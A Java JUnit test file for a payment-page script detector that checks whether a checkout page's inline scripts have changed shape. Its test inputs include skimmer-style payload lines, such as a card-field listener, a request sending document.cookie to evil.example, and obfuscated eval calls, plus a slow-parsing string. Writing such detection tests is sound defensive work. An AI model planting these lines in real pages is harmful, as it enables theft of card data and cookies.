package dev.cordon.domain.store.paymentpage;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ScriptFormTest {

    private static final String CART =
            """
            var wc_params = {"nonce":"5f9f1b74c0","total":"18.00","ajax":"https:\\/\\/shop.example\\/?wc-ajax=x"};
            var items = 3;
            """;

    /** As Google gives it out. */
    private static final String TAG_MANAGER =
            """
            (function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':
            new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],
            j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src=
            'https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);
            })(window,document,'script','dataLayer','GTM-AAAA');
            """;

    @Test
    void anotherCartHasTheSameForm() {
        var other =
                CART.replace("5f9f1b74c0", "aaaa\\\"bbb'ccc")
                        .replace("18.00", "1,299.00")
                        .replace("3", "17");

        assertThat(ScriptForm.of(other)).isEqualTo(ScriptForm.of(CART));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "document.querySelector('#card').addEventListener('input', steal);",
                "new Image().src = '//evil.example/' + document.cookie;",
                "fetch('https://evil.example', {body: x});",
                "/* harmless */ steal()",
            })
    void anythingThatIsAddedChangesIt(String added) {
        assertThat(ScriptForm.of(CART + added)).isNotEqualTo(ScriptForm.of(CART));
    }

    @Test
    void anotherHostIsAnotherForm() {
        var elsewhere = CART.replace("shop.example", "shop.example.evil.example");

        assertThat(ScriptForm.of(elsewhere)).isNotEqualTo(ScriptForm.of(CART));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "eval('%s')",
                "new Function(\"%s\")()",
                "window[`ev` + 'al'](atob('%s'))",
                "setTimeout('%s', 1)",
                "document.write('%s')",
                "import('%s')",
                "var cart = `${steal('%s')}`;",
                "document.head.append(Object.assign(document['createElement']('%s')));",
                "new Image().src = base + '%s';",
                "frame [ 'src' ] = base + '%s';",
                "frame.setAttribute('src', base + '%s');",
            })
    void aScriptThatRunsTextIsComparedExactly(String script) {
        assertThat(ScriptForm.of(script.formatted("one")))
                .isNotEqualTo(ScriptForm.of(script.formatted("two")));
    }

    @Test
    void codeInATemplateLiteralIsNotMaskedAsText() {
        var harmless = CART + "var name = `${name}`;";
        var skimmer = CART + "var name = `${steal(document.forms[0])}`;";

        assertThat(ScriptForm.of(skimmer)).isNotEqualTo(ScriptForm.of(harmless));
    }

    @Test
    void anotherContainerOfATagManagerIsAnotherScript() {
        var swapped = TAG_MANAGER.replace("GTM-AAAA", "GTM-EVIL1");

        assertThat(ScriptForm.of(swapped)).isNotEqualTo(ScriptForm.of(TAG_MANAGER));
    }

    @Test
    void comparingASourceLoadsNothing() {
        assertThat(ScriptForm.isExact("if (image.src == 'a.png') { show('%s'); }")).isFalse();
    }

    @Test
    void aScriptMadeToBeSlowIsNot() {
        var hostile = "'" + "\\\\'\"`".repeat(300_000);

        assertTimeoutPreemptively(Duration.ofSeconds(20), () -> ScriptForm.of(hostile));
    }
}
